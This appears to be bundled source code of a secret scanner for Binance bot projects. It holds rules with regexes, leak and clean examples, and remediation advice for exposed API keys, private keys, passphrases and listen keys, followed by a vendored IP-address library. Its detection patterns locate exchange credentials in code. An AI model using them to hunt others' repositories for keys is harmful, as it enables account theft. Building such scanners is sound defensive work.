const keyField = /^(?:(?:binance)?api_?keys?(?:id|name|label|alias)?|accesskey|apisecret(?:key)?|secretkey|keytype|keyalias|keylabel|enable(?:reading|margin|futures|trading|spot)|cantrade|futurestrade|margintrade)$/;
const rightsField = /^(?:permissions?|rights|scopes?|restrictions|withdraw(?:als?|al)?|trad(?:e|ing)|read(?:only|ing)?|ip(?:s|list|address(?:es)?|restrictions?|whitelist)|(?:allowed|trusted|whitelist(?:ed)?)ips?|whitelist|allowlist)$/;
/** What people, orders and keys of another kind have: the date is theirs. */
const otherField = /^(?:password(?:hash)?|username|userid|order(?:id|no|number|status)|clientorderid|symbol|side|quantity|qty|price|amount|txid|transactionid|kid|kty|publicexponent|thumbprint|uuid|commit|image|version|strategyversion|size)$/;
const personField = /^(?:e?mail|firstname|lastname|role)$/;
const alone$1 = {
	restriction: false,
	key: false,
	rights: false,
	other: false,
	person: false,
	rotated: false
};
const keyAge = {
	id: "key-age",
	title: "A key that is older than it should be",
	severity: "low",
	finds: "A key whose own entry says that it was made, or last renewed, more than 90 days ago (`createTime` beside the fields of Binance’s apiRestrictions, `created` in a list of keys, `BINANCE_KEY_CREATED`), judged on the day of the scan or of `--as-of`. With `--history` also a key that came into git longer ago and is still there: once for each pair, not for examples, tests, testnet or listen keys. `keyAge` in the configuration sets another number of days.",
	why: "A key stays valid until somebody deletes it. The longer it lives, the more backups, laptops, logs and former colleagues know it, and a leak that nobody noticed ends on the day on which the key is replaced.",
	advice: ["Make a new key (Ed25519, with an IP list and only the rights that the bot needs), let the bot use it, then delete the old one in Binance’s API Management.", "Write the new date into the file, and put the next one into your calendar: bnguard keys due tells it from bnguard.keys.yaml."],
	references: ["https://developers.binance.com/docs/wallet/account/api-key-permission", "https://www.binance.com/en/my/settings/api-management"],
	mayFind: mayDateKey,
	*look({ settings, document }) {
		if (/(?:^|\/)bnguard\.keys\.ya?ml$/.test(document.path)) return;
		const dated = settings.filter(({ name, path }) => madeName.test(name) || ownName.test(name) && !otherDay.test(name) && !isOfOtherThing(path.at(-1) ?? ""));
		if (dated.length === 0) return;
		const companyOf = companies(settings);
		for (const setting of dated) {
			const risk = riskOf$1(setting, companyOf(setting));
			if (risk) yield risk;
		}
	},
	examples: {
		leaks: [
			{
				path: "ops/key.json",
				text: "{\n  \"ipRestrict\": true,\n  \"createTime\": «1698710400000»,\n  \"enableReading\": true,\n  \"enableSpotAndMarginTrading\": true\n}"
			},
			{
				path: "keys.yaml",
				text: "binance:\n  keys:\n    - name: grid\n      created: «2025-03-01»\n      permissions: [read, trade]\n    - name: dca\n      created: 2026-11-01\n      permissions: [read, trade]"
			},
			{
				path: ".env",
				text: "BINANCE_API_KEY_CREATED=«2025-11-22»"
			},
			{
				path: "keys.toml",
				text: "[[binance.api_keys]]\nlabel = \"grid\"\ncreated_at = 2024-02-01\nrotated_at = «2026-05-01T08:00:00Z»"
			},
			{
				path: "keys.py",
				text: "# Binance\nKEYS = [{\"label\": \"grid\", \"api_key\": load(\"grid\"), \"created_at\": «1735689600», \"ips\": [\"8.8.4.4\"]}]"
			}
		],
		clean: [
			{
				path: "ops/key.json",
				text: "{ \"ipRestrict\": true, \"createTime\": 1794960000000, \"enableReading\": true }"
			},
			{
				path: "orders.json",
				text: "{ \"source\": \"https://api.binance.com\", \"data\": [{ \"orderNumber\": \"20219\", \"asset\": \"BUSD\", \"createTime\": 1619361369000 }] }"
			},
			{
				path: "users.json",
				text: "{ \"exchange\": \"binance\", \"users\": [{ \"email\": \"a@example.org\", \"apiKey\": \"\", \"createdAt\": \"2023-01-01\" }] }"
			},
			{
				path: "keys.yaml",
				text: "binance:\n  keys:\n    - name: grid\n      created: 2024-03-01\n      rotated: 2026-10-30\n      permissions: [read, trade]"
			},
			{
				path: "types.ts",
				text: "import { Spot } from '@binance/connector';\ninterface K { createTime: number; ipRestrict: boolean }"
			},
			{
				path: "tests/fixtures/key.json",
				text: "{ \"ipRestrict\": true, \"createTime\": 1698710400000, \"enableReading\": true }"
			},
			{
				path: ".env",
				text: "BINANCE_KEY_ROTATION_DUE=2025-11-22\nSSH_KEY_CREATED=2020-01-01\nREDIS_KEY_CREATED=2020-01-01\nDATABASE_KEY_ROTATED_AT=2020-01-01"
			}
		],
		missed: [{
			path: "bot.py",
			text: "import binance\nKEY_CREATED = datetime(2024, 1, 1)",
			because: "a date that a call puts together is not computed"
		}, {
			path: ".env",
			text: "# Binance key, made on 2024-01-01\nBINANCE_API_KEY=",
			because: "prose in comments is not read"
		}]
	}
};
const anyDated = new RegExp(require_gates.dated.source, "gi");
const assigned$1 = /^["'`\]]{0,3}\s{0,8}:?=(?!>)/;
/** How a value is joined to a name by a call. */
const joint$1 = /["'`\\]{0,3}\s{0,20}[(,]/y;
/** The fields of `restriction` and `keyField` as programs write them, and what a mapping of keys is called. */
const besideDate = new RegExp([
	...[
		"ip restrict",
		"permits universal",
		"trading authority",
		"access key",
		"secret key",
		"api (?:key|secret)"
	],
	...["enable (?:withdraw|internal|vanilla|fix|spot|portfolio|reading|margin|futures|trading)"],
	...[
		"can (?:margin|futures|vanilla|fix|trade)",
		"key (?:type|alias|label)",
		"(?:futures|margin) trade"
	]
].join("|").replaceAll(" ", "[-_ ]?"), "i");
const aboveDate = /key|credential/i;
/** A builder's steps lie so near. */
const builderReach = 1500;
const longestField = 40;
/** What stands beside a date stands in the same brackets; of longer ones nothing is told. */
const longestEntry = 6e3;
/** So far before a bracket its name may begin, and so many brackets may lie between a date and the name of its mapping. */
const [nameReach, levels$1] = [600, 6];
/** Whether a date stands in a program under a name of its own, or beside what a key has. */
function mayDateKey({ text, tokens }) {
	let around;
	let lookedTo = 0;
	const isSeen = /* @__PURE__ */ new Set();
	for (const { index } of text.matchAll(anyDated)) {
		const span = nameAt(text, index);
		const name = text.slice(span.start, span.end);
		const words = /[\w .-]*$/.exec(text.slice(Math.max(0, index - longestField), index))?.[0] ?? "";
		if (ownName.test(folded(words + text.slice(index, span.end)))) return true;
		if (!madeName.test(folded(name)) && !madeName.test(folded(name.slice(name.lastIndexOf(".") + 1)))) continue;
		joint$1.lastIndex = span.end;
		if (joint$1.test(text)) {
			const from = Math.max(0, index - builderReach, lookedTo - longestField);
			lookedTo = index + builderReach;
			if (besideDate.test(text.slice(from, lookedTo))) return true;
		}
		const { start, length, match, end } = tokens();
		around ??= bracketsAround(tokens());
		const at = countBefore(length, (one) => start[one] <= index) - 1;
		if (at < 0 || end[at] <= index) continue;
		let open = around[at];
		if (isSeen.has(open) || open < 0 && assigned$1.test(text.slice(span.end, span.end + longestField))) continue;
		isSeen.add(open);
		const [from, to] = open < 0 ? [0, text.length] : [start[open], end[match[open]]];
		if (open >= 0 && to - from > longestEntry || besideDate.test(text.slice(from, to))) return true;
		for (let level = 0; level < levels$1 && open >= 0; level += 1) {
			if (aboveDate.test(text.slice(Math.max(0, start[open] - nameReach), start[open]))) return true;
			open = around[open];
		}
	}
	return false;
}
function riskOf$1(setting, company) {
	const { value, name, path, span } = setting;
	const since = value.kind === "text" || value.kind === "scalar" ? require_gates.dateOf(value.text) : void 0;
	if (since === void 0) return void 0;
	const isRotation = rotation.test(name);
	if (!isRotation && company.rotated) return void 0;
	if (!ownName.test(name) && !company.restriction && !isKeyEntry(path, company)) return void 0;
	return {
		span,
		since,
		name: path.join("."),
		message: `A key that was ${isRotation ? "last renewed" : "made"} on ${since.slice(0, 10)}`,
		...company.restriction ? { clues: [clue("binance-setting", "beside it stand fields of Binance’s apiRestrictions")] } : { confidence: "likely" }
	};
}
/** Whether what stands beside the date, or what it stands in, is a key. */
function isKeyEntry(path, { key, rights, other, person }) {
	if (other || person && !rights) return false;
	const near = path.slice(0, -1).filter((step) => !/^\d*$/.test(step)).slice(-2).map(folded);
	if (near.some((step) => otherDay.test(step))) return false;
	if (near.some((step) => /(?:api|trading|access|binance)keys?$/.test(step))) return true;
	return key || rights && near.some((step) => /^(?:keys?|credentials?|keyring|keyinventory)$/.test(step));
}
/** What stands beside each setting, in its own mapping and in those below it. */
function companies(settings) {
	const known = /* @__PURE__ */ new Map();
	const at = (place) => {
		let company = known.get(place);
		if (!company) known.set(place, company = { ...alone$1 });
		return company;
	};
	for (const setting of settings) {
		if (setting.via === "assign") continue;
		const { path } = setting;
		if (/^\d+$/.test(path.at(-1) ?? "")) note(at(belowKey(path.slice(0, -2))), setting.name, true);
		else {
			note(at(besideKey(setting)), setting.name);
			if (isRenewal(setting)) at(besideKey(setting)).rotated = true;
			if (path.length > 1) for (const step of path.slice(-2)) note(at(belowKey(path.slice(0, -2))), folded(step), true);
		}
	}
	return (setting) => {
		if (setting.via === "assign") return alone$1;
		const beside = known.get(besideKey(setting)) ?? alone$1;
		const below = known.get(belowKey(setting.path.slice(0, -1))) ?? alone$1;
		return Object.fromEntries(Object.keys(alone$1).map((one) => [one, beside[one] || below[one]]));
	};
}
const besideKey = ({ container, path }) => `${String(container)}\0${path.slice(0, -1).join("\0")}`;
const belowKey = (path) => `below\0${path.join("\0")}`;
/** @param isBelow in a mapping within the entry: only rights speak of the entry too */
function note(company, name, isBelow = false) {
	company.restriction ||= restriction.test(name);
	company.rights ||= rightsField.test(name);
	if (isBelow) return;
	company.key ||= keyField.test(name);
	company.other ||= otherField.test(name);
	company.person ||= personField.test(name);
}
function isRenewal({ name, value }) {
	if (!rotation.test(name) || !madeName.test(name)) return false;
	return (value.kind === "text" || value.kind === "scalar") && require_gates.dateOf(value.text) !== void 0;
}
// ../engine/dist/rules/key-passphrase.js
const keyPassphrase = {
	id: "key-passphrase",
	title: "Passphrase of a private key",
	severity: "high",
	finds: "The literal passphrase of an encrypted private key, in a call of a Binance SDK or under a name that says so. Nothing of it is shown or hashed: it is identified by its file and name, so a baseline that accepts it accepts the next one there too.",
	why: "An encrypted private key is only as secret as its passphrase. With both in reach a thief signs requests as you; and people use a passphrase more than once.",
	advice: ["Encrypt the private key anew with another passphrase, or better: make a new key pair and delete the old key in Binance’s API Management.", "Read the passphrase from the environment or a secret manager, never from beside the key."],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/faqs/api_key_types"],
	examples: {
		leaks: [
			{
				path: "bot.ts",
				text: "import { Spot } from '@binance/connector';\nconst client = new Spot(process.env.KEY, '', {\n  privateKey: readFileSync('key.pem'),\n  privateKeyPassphrase: '<base64-16:a>',\n});"
			},
			{
				path: "bot.py",
				text: "from binance.client import Client\nclient = Client(key, private_key=pem, private_key_pass=\"<base64-16:a>\")"
			},
			{
				path: ".env",
				text: "BINANCE_PRIVATE_KEY_PASSPHRASE=<base64-16:a>"
			},
			{
				path: "bot.py",
				text: "import binance\nprivate_key_pass = \"hunter-two\""
			},
			{
				path: "bot.rs",
				text: "use binance_sdk::spot;\nlet c = Config { private_key_passphrase: Some(String::from(\"<base64-16:a>\")) };"
			},
			{
				path: "Main.java",
				text: "import com.binance.connector.client.common.configuration.SignatureConfiguration;\nclass Main { void run() { signatureConfiguration.setPrivateKeyPass(\"<base64-16:a>\"); } }"
			},
			{
				path: "main.go",
				text: "import \"github.com/binance/binance-connector-go/common\"\n\nvar c = common.NewConfigurationRestAPI(common.WithPrivateKeyPassphrase(\"<base64-16:a>\"))"
			}
		],
		clean: [
			{
				path: "bot.py",
				text: "client = Client(key, private_key=pem, private_key_pass=os.environ[\"BINANCE_PASS\"])"
			},
			{
				path: ".env",
				text: "BINANCE_PRIVATE_KEY_PASSPHRASE=your_passphrase_here"
			},
			{
				path: ".env",
				text: "BINANCE_PRIVATE_KEY_PASSPHRASE=${VAULT_PASS}"
			},
			{
				path: ".env",
				text: "BINANCE_PRIVATE_KEY_PASSPHRASE=changeme"
			},
			{
				path: "bot.py",
				text: "from binance.spot import Spot\nphrase = getpass(\"Passphrase of the key: \")\na = Spot(private_key=pem, private_key_pass=phrase)\nb = Spot(private_key=pem, private_key_pass=input(\"Passphrase: \"))\nc = Spot(private_key=pem, private_key_pass=store.fetch(\"desk/binance/pass\"))"
			},
			{
				path: "bot.ts",
				text: "import { Spot } from '@binance/connector';\nconst client = new Spot(key, '', { privateKey: pem, privateKeyPassphrase: await ask('Passphrase?') });"
			},
			{
				path: "server.yml",
				text: "ssl:\n  private_key_password: <base64-16:a>"
			},
			{
				path: "binance.env",
				text: "OKX_PASSPHRASE=<base64-16:a>"
			}
		],
		missed: [{
			path: "bot.py",
			text: "from binance.client import Client\nphrase = \"<base64-16:a>\"\nkey = load_pem_private_key(pem, phrase)",
			because: "a text without a telling name may be anything"
		}, {
			path: "bot.py",
			text: "import binance\nprivate_key_pass = \"correct horse battery staple\"",
			because: "four words and more are taken for a sentence that says what to put there"
		}]
	}
};
// ../engine/dist/rules/key-reused.js
const keyReused = {
	id: "key-reused",
	title: "One key in several bots or services",
	severity: "medium",
	finds: "The same key, secret or private key in several services: in folders with a manifest of their own (`package.json`, `pyproject.toml`, `go.mod`, `Dockerfile`, …), in folders of a folder of bots, in several services of one compose, supervisor or pm2 file, or in several repositories of one run. Every place is reported. Not: several files of one service, tests and examples, a `.env` above the services that read it, keys that Binance’s documentation publishes. `--staged` and `--range` see only what the change touches.",
	why: "When one of the bots leaks the key, all of them are open, and all of them stop when it is deleted. The rights and the IP list must fit the neediest of them, nobody can tell whose order an order was, and their requests count against one limit.",
	advice: ["Make a key for each bot, best on a sub-account of its own, with the rights and the IP list of that bot alone.", "Delete the shared key in Binance’s API Management once all of them use their own."],
	references: ["https://www.binance.com/en/my/settings/api-management", "https://developers.binance.com/docs/sub_account/general-info"],
	examples: {
		leaks: [
			{
				path: "docker-compose.yml",
				text: "services:\n  grid:\n    environment:\n      BINANCE_API_KEY: «key-reused|<key64:api-key.a>»\n  dca:\n    environment:\n      BINANCE_API_KEY: «key-reused|<key64:api-key.a>»"
			},
			{
				path: "ecosystem.config.js",
				text: "module.exports = {\n  apps: [\n    { name: 'grid', env: { BINANCE_SECRET_KEY: '«key-reused|<key64:secret-key.a>»' } },\n    { name: 'dca', env: { BINANCE_SECRET_KEY: '«key-reused|<key64:secret-key.a>»' } },\n  ],\n};"
			},
			{
				path: "supervisord.conf",
				text: "[program:grid]\nenvironment=BINANCE_API_KEY=\"«key-reused|<key64:api-key.a>»\"\n\n[program:dca]\nenvironment=BINANCE_API_KEY=\"«key-reused|<key64:api-key.a>»\""
			}
		],
		clean: [
			{
				path: "docker-compose.yml",
				text: "services:\n  grid:\n    environment:\n      BINANCE_API_KEY: ${GRID_KEY}\n  dca:\n    environment:\n      BINANCE_API_KEY: ${DCA_KEY}"
			},
			{
				path: "docker-compose.yml",
				text: "services:\n  grid:\n    env_file: grid.env\n  dca:\n    env_file: dca.env"
			},
			{
				path: "README.md",
				text: "Both bots trade on Binance, each with a key of its own."
			}
		],
		missed: [{
			path: "run.sh",
			text: "BINANCE_API_KEY=$(cat key) ./grid &\nBINANCE_API_KEY=$(cat key) ./dca &",
			because: "only values are compared, not where they are read from"
		}]
	}
};
// ../engine/dist/rules/listen-key.js
const listenKey = {
	id: "listen-key",
	title: "Binance listen key",
	severity: "low",
	finds: "A listen key, 60 to 64 letters and digits, by its name or by the URL of a user data stream. It is no API key, though most look like one.",
	why: "Whoever has a listen key reads the account’s balances, orders and positions as they change. It lapses an hour after it was last kept alive, so one in old code is dead, and one in a log of today is not.",
	advice: [
		"Close the stream (DELETE on the same endpoint) if the key may still be alive; otherwise it lapses by itself within an hour.",
		"Ask for a listen key when the program starts, and keep it out of logs and recordings.",
		"Spot has no listen keys any more: its user data stream is subscribed to over the WebSocket API."
	],
	references: ["https://developers.binance.com/docs/derivatives/usds-margined-futures/user-data-streams/Start-User-Data-Stream"],
	examples: {
		leaks: [
			{
				path: "binance.js",
				text: "const listenKey = '<key64:a>';"
			},
			{
				path: "stream.py",
				text: "url = \"wss://fstream.binance.com/ws/<key64:a>\""
			},
			{
				path: "stream.log",
				text: "connected wss://stream.binance.com:9443/stream?streams=<key64:a>"
			},
			{
				path: "response.json",
				text: "{ \"binance\": { \"listenKey\": \"<alnum60:a>\" } }"
			}
		],
		clean: [
			{
				path: "binance.js",
				text: "const listenKey = await client.createListenKey();"
			},
			{
				path: "binance.ts",
				text: "interface Stream { listenKey: string }"
			},
			{
				path: "stream.py",
				text: "url = \"wss://stream.binance.com:9443/ws/btcusdt@trade\""
			}
		],
		missed: [{
			path: "binance.py",
			text: "k = \"<alnum60:a>\"\nws = connect(\"wss://stream.binance.com/ws/\" + k)",
			because: "a short listen key whose own name says nothing has no shape"
		}]
	}
};
// ../engine/dist/rules/private-key.js
const privateKey = {
	id: "private-key",
	title: "Private key for Binance requests",
	severity: "critical",
	finds: "An Ed25519 or RSA private key in a Binance context: PEM as a file or in a string, with escaped or real line ends, joined from literals, as bare base64, as base64 of a PEM, or as .NET XML. An encrypted key is medium: its passphrase is still to be guessed or found.",
	why: "The private key signs requests as the secret does for HMAC keys; the public half at Binance is no secret. Whoever has it and the API key trades with your money.",
	advice: [
		"Delete the API key that belongs to it in Binance’s API Management now.",
		"Make a new key pair; keep the private half in a file outside the repository or in a secret manager, and encrypt it.",
		"Then remove it from the code and from git’s history."
	],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/faqs/api_key_types", "https://github.com/binance/asymmetric-key-generator"],
	examples: {
		leaks: [
			{
				path: "binance_ed25519.pem",
				text: "<pem-ed25519:a>"
			},
			{
				path: "binance.env",
				text: "BINANCE_PRIVATE_KEY=\"<pem-rsa:a|escaped>\""
			},
			{
				path: "binance.json",
				text: "{ \"privateKey\": \"<pem-ed25519:a|escaped>\" }"
			},
			{
				path: "bot.py",
				text: "from binance.client import Client\nclient = Client(api_key=key, private_key=\"<der-ed25519:a>\")"
			},
			{
				path: "binance.yaml",
				text: "binance:\n  private_key: |\n    <pem-rsa:a>"
			}
		],
		clean: [
			{
				path: "binance_public.pem",
				text: "<pem-public:a>"
			},
			{
				path: "binance.crt",
				text: "<pem-cert:a>"
			},
			{
				path: "binance.py",
				text: "private_key = \"-----BEGIN PRIVATE KEY-----\\n...\\n-----END PRIVATE KEY-----\""
			},
			{
				path: "binance.ts",
				text: "if (secret.includes('PRIVATE KEY')) return 'rsa';"
			}
		],
		missed: [{
			path: "binance.jks",
			text: "a Java key store",
			because: "key stores are encrypted archives; the file is named, not opened"
		}]
	}
};
// ../engine/dist/risks/of-tests.js
/** Whether a program is a test, by the habits of test runners. What stands in `examples` is none: it is there to be copied. */
const ofTests = /(?:^|\/)(?:tests?|__tests__|__mocks__|mocks?|specs?|testdata|fixtures?|stubs?)\/|(?:^|\/)test_[^/]*\.py$|[._-](?:test|tests|spec|mock)\.\w+$|(?:Test|Tests|Spec)\.(?:java|kt|scala|cs|swift)$/;
function isOfTests(path) {
	return ofTests.test(path);
}
// ../engine/dist/rules/key-calls.js
/**
* How the SDKs and the API name what makes keys for sub-accounts, brokers’ customers and margin trading, or changes
* whence they work. Data only. Source: Binance’s API reference (sub-account, broker, margin special keys, Fast API).
*/
const keyEndpoints = [
	{
		path: "sub-account/subAccountApi",
		kind: "sub-account"
	},
	{
		path: "sub-account/subAccountApi/ipRestriction",
		kind: "restriction"
	},
	{
		path: "broker/subAccountApi",
		kind: "broker"
	},
	{
		path: "broker/subAccountApi/permission",
		kind: "broker"
	},
	{
		path: "broker/subAccountApi/ipRestriction",
		kind: "restriction"
	},
	{
		path: "margin/apiKey",
		kind: "special"
	},
	{
		path: "margin/apiKey/ip",
		kind: "edit"
	},
	{
		path: "oauth-api/v1/key",
		kind: "link"
	},
	{
		path: "sub-account/subAccountApi/ipRestriction/ipList",
		kind: "list"
	},
	{
		path: "broker/subAccountApi/ipRestriction/ipList",
		kind: "list"
	}
];
const keyMethods = [
	{
		name: /^(?:new)?create(?:margin)?special(?:lowlatency)?(?:api)?key\w{0,30}$/,
		kind: "special",
		isDistinctive: true
	},
	{
		name: /^(?:new)?(?:create)?margin(?:create)?(?:special|lowlatency)(?:api)?key$|^marginapikeycreate$/,
		kind: "special"
	},
	{
		name: /^(?:new)?(?:edit|update|change)ip(?:list)?for(?:a|the)?special(?:low\w{0,9})?key\w{0,12}$|put(?:v\d)?marginapikeyip$/,
		kind: "edit",
		isDistinctive: true
	},
	{
		name: /post(?:v\d)?marginapikey$/,
		kind: "special",
		isDistinctive: true
	},
	{
		name: /^(?:new)?create(?:an?)?subaccountapi(?:key)?(?:service)?$|^subaccountcreateapi(?:key)?$|^createvirtualsubaccountapi(?:key)?$/,
		kind: "sub-account"
	},
	{
		name: /post(?:v\d)?subaccountsubaccountapi$/,
		kind: "sub-account",
		isDistinctive: true
	},
	{
		name: /^(?:new)?(?:add|set|update|enable|change|toggle)?iprestriction(?:for)?(?:an?)?subaccountapi(?:key)?(?:service)?$|^(?:new)?subaccount(?:api)?(?:toggle|update|enable|enableordisable)ip(?:restriction)?(?:service)?$|^(?:toggle|enableordisable|update)iprestrictionforsubaccountapi(?:key)?$/,
		kind: "restriction",
		isDistinctive: true
	},
	{
		name: /^(?!.*(?:get|query|fetch|list|delete|remove|check|request|response|params|builder|error|test|mock))\w{0,30}(?:subaccount\w{0,12}iprestriction|iprestriction\w{0,8}subaccount)\w{0,16}$/,
		kind: "restriction",
		isDistinctive: true
	},
	{
		name: /^(?:add|set|update|change|toggle|enable(?:ordisable)?)?ip(?:access)?restrictions?$/,
		kind: "restriction"
	},
	{
		name: /post(?:v\d)?(?:subaccount|broker)subaccountapiiprestriction$/,
		kind: "restriction",
		isDistinctive: true
	},
	{
		name: /^(?:new)?(?:create|changepermission)apikeybrokersubaccount$|^createapikeyforsubaccount$|^changeapikeypermissions?forsubaccount$|^changesubaccountapikeypermissions?$|^(?:create|change)broker(?:age)?subaccountapi(?:key)?(?:permission)?$|^changesubaccountapipermission$/,
		kind: "broker",
		isDistinctive: true
	},
	{
		name: /^(?:new)?(?:delete|remove)ip(?:list|restriction)?(?:fora?)?subaccountapi(?:key)?(?:service)?$|^subaccountapideleteip$|delete(?:v\d)?(?:subaccount|broker)subaccountapiiprestrictioniplist$/,
		kind: "list",
		isDistinctive: true
	},
	{
		name: /post(?:v\d)?brokersubaccountapi(?:permission)?$/,
		kind: "broker",
		isDistinctive: true
	}
];
/** Rights of a broker’s key, folded. */
const brokerRights = /^(?:cantrade|margintrade|futurestrade|caneuropeanoptions?trade|is(?:spot|margin|futures)tradingenabled)$/;
/** Rights of a key that a Link partner makes, folded: only Fast API calls them so. */
const linkRights = /^enable(?:futuretrade|europeanoptions|trade|margin)$/;
const onlyLinkRights = /^enable(?:futuretrade|europeanoptions)$/;
// ../../node_modules/.pnpm/ipaddr.js@2.5.0/node_modules/ipaddr.js/lib/ipaddr.js
var require_ipaddr = /* @__PURE__ */ require_rolldown_runtime.__commonJSMin(((exports, module, this$1) => {
	(function(root) {
		"use strict";
		const ipv4Part = "(0?\\d+|0x[a-f0-9]+)";
		const ipv4Regexes = {
			fourOctet: new RegExp(`^${ipv4Part}\\.${ipv4Part}\\.${ipv4Part}\\.${ipv4Part}$`, "i"),
			threeOctet: new RegExp(`^${ipv4Part}\\.${ipv4Part}\\.${ipv4Part}$`, "i"),
			twoOctet: new RegExp(`^${ipv4Part}\\.${ipv4Part}$`, "i"),
			longValue: new RegExp(`^${ipv4Part}$`, "i")
		};
		const octalRegex = new RegExp(`^0[0-7]+$`, "i");
		const hexRegex = new RegExp(`^0x[a-f0-9]+$`, "i");
		const zoneIndex = "%[0-9a-z]{1,}";
		const ipv6Part = "(?:[0-9a-f]+::?)+";
		const ipv6Regexes = {
			zoneIndex: new RegExp(zoneIndex, "i"),
			"native": new RegExp(`^(::)?(${ipv6Part})?([0-9a-f]+)?(::)?(${zoneIndex})?$`, "i"),
			deprecatedTransitional: new RegExp(`^(?:::)(${ipv4Part}\\.${ipv4Part}\\.${ipv4Part}\\.${ipv4Part}(${zoneIndex})?)$`, "i"),
			transitional: new RegExp(`^((?:${ipv6Part})|(?:::)(?:${ipv6Part})?)${ipv4Part}\\.${ipv4Part}\\.${ipv4Part}\\.${ipv4Part}(${zoneIndex})?$`, "i")
		};
		function expandIPv6(string, parts) {
			if (string.indexOf("::") !== string.lastIndexOf("::")) return null;
			let colonCount = 0;
			let lastColon = -1;
			let zoneId = (string.match(ipv6Regexes.zoneIndex) || [])[0];
			let replacement, replacementCount;
			if (zoneId) {
				zoneId = zoneId.substring(1);
				string = string.replace(/%.+$/, "");
			}
			while ((lastColon = string.indexOf(":", lastColon + 1)) >= 0) colonCount++;
			if (string.substr(0, 2) === "::") colonCount--;
			if (string.substr(-2, 2) === "::") colonCount--;
			if (colonCount >= parts) return null;
			replacementCount = parts - colonCount;
			replacement = ":";
			while (replacementCount--) replacement += "0:";
			string = string.replace("::", replacement);
			if (string[0] === ":") string = string.slice(1);
			if (string[string.length - 1] === ":") string = string.slice(0, -1);
			parts = (function() {
				const ref = string.split(":");
				const results = [];
				for (let i = 0; i < ref.length; i++) results.push(ref[i].length > 4 ? NaN : parseInt(ref[i], 16));
				return results;
			})();
			return {
				parts,
				zoneId
			};
		}
		function matchCIDR(first, second, partSize, cidrBits) {
			if (first.length !== second.length) throw new Error("ipaddr: cannot match CIDR for objects with different lengths");
			let part = 0;
			let shift;
			while (cidrBits > 0) {
				shift = partSize - cidrBits;
				if (shift < 0) shift = 0;
				if (first[part] >> shift !== second[part] >> shift) return false;
				cidrBits -= partSize;
				part += 1;
			}
			return true;
		}
		function parseIntAuto(string) {
			if (hexRegex.test(string)) return parseInt(string, 16);
			if (string[0] === "0" && !isNaN(parseInt(string[1], 10))) {
				if (octalRegex.test(string)) return parseInt(string, 8);
				throw new Error(`ipaddr: cannot parse ${string} as octal`);
			}
			return parseInt(string, 10);
		}
		function padPart(part, length) {
			while (part.length < length) part = `0${part}`;
			return part;
		}
		const ipaddr = {};
		ipaddr.IPv4 = (function() {
			function IPv4(octets) {
				if (octets.length !== 4) throw new Error("ipaddr: ipv4 octet count should be 4");
				let i, octet;
				for (i = 0; i < octets.length; i++) {
					octet = octets[i];
					if (!(0 <= octet && octet <= 255)) throw new Error("ipaddr: ipv4 octet should fit in 8 bits");
				}
				this.octets = octets;
			}
			IPv4.prototype.SpecialRanges = {
				unspecified: [[new IPv4([
					0,
					0,
					0,
					0
				]), 8]],
				broadcast: [[new IPv4([
					255,
					255,
					255,
					255
				]), 32]],
				multicast: [[new IPv4([
					224,
					0,
					0,
					0
				]), 4]],
				linkLocal: [[new IPv4([
					169,
					254,
					0,
					0
				]), 16]],
				loopback: [[new IPv4([
					127,
					0,
					0,
					0
				]), 8]],
				carrierGradeNat: [[new IPv4([
					100,
					64,
					0,
					0
				]), 10]],
				"private": [
					[new IPv4([
						10,
						0,
						0,
						0
					]), 8],
					[new IPv4([
						172,
						16,
						0,
						0
					]), 12],
					[new IPv4([
						192,
						168,
						0,
						0
					]), 16]
				],
				reserved: [
					[new IPv4([
						192,
						0,
						0,
						0
					]), 24],
					[new IPv4([
						192,
						0,
						2,
						0
					]), 24],
					[new IPv4([
						192,
						88,
						99,
						0
					]), 24],
					[new IPv4([
						198,
						18,
						0,
						0
					]), 15],
					[new IPv4([
						198,
						51,
						100,
						0
					]), 24],
					[new IPv4([
						203,
						0,
						113,
						0
					]), 24],
					[new IPv4([
						240,
						0,
						0,
						0
					]), 4]
				],
				as112: [[new IPv4([
					192,
					175,
					48,
					0
				]), 24], [new IPv4([
					192,
					31,
					196,
					0
				]), 24]],
				amt: [[new IPv4([
					192,
					52,
					193,
					0
				]), 24]]
			};
			IPv4.prototype.kind = function() {
				return "ipv4";
			};
			IPv4.prototype.match = function(other, cidrRange) {
				let ref;
				if (cidrRange === void 0) {
					ref = other;
					other = ref[0];
					cidrRange = ref[1];
				}
				if (other.kind() !== "ipv4") throw new Error("ipaddr: cannot match ipv4 address with non-ipv4 one");
				return matchCIDR(this.octets, other.octets, 8, cidrRange);
			};
			IPv4.prototype.prefixLengthFromSubnetMask = function() {
				let cidr = 0;
				let stop = false;
				const zerotable = {
					0: 8,
					128: 7,
					192: 6,
					224: 5,
					240: 4,
					248: 3,
					252: 2,
					254: 1,
					255: 0
				};
				let i, octet, zeros;
				for (i = 3; i >= 0; i -= 1) {
					octet = this.octets[i];
					if (octet in zerotable) {
						zeros = zerotable[octet];
						if (stop && zeros !== 0) return null;
						if (zeros !== 8) stop = true;
						cidr += zeros;
					} else return null;
				}
				return 32 - cidr;
			};
			IPv4.prototype.range = function() {
				return ipaddr.subnetMatch(this, this.SpecialRanges);
			};
			IPv4.prototype.toByteArray = function() {
				return this.octets.slice(0);
			};
			IPv4.prototype.toIPv4MappedAddress = function() {
				return ipaddr.IPv6.parse(`::ffff:${this.toString()}`);
			};
			IPv4.prototype.toNormalizedString = function() {
				return this.toString();
			};
			IPv4.prototype.toString = function() {
				return this.octets.join(".");
			};
			return IPv4;
		})();
		ipaddr.IPv4.broadcastAddressFromCIDR = function(string) {
			try {
				const cidr = this.parseCIDR(string);
				const ipInterfaceOctets = cidr[0].toByteArray();
				const subnetMaskOctets = this.subnetMaskFromPrefixLength(cidr[1]).toByteArray();
				const octets = [];
				let i = 0;
				while (i < 4) {
					octets.push(parseInt(ipInterfaceOctets[i], 10) | parseInt(subnetMaskOctets[i], 10) ^ 255);
					i++;
				}
				return new this(octets);
			} catch (e) {
				throw new Error("ipaddr: the address does not have IPv4 CIDR format", { cause: e });
			}
		};
		ipaddr.IPv4.isIPv4 = function(string) {
			return this.parser(string) !== null;
		};
		ipaddr.IPv4.isValid = function(string) {
			try {
				new this(this.parser(string));
				return true;
			} catch {
				return false;
			}
		};
		ipaddr.IPv4.isValidCIDR = function(string) {
			try {
				this.parseCIDR(string);
				return true;
			} catch {
				return false;
			}
		};
		ipaddr.IPv4.isValidFourPartDecimal = function(string) {
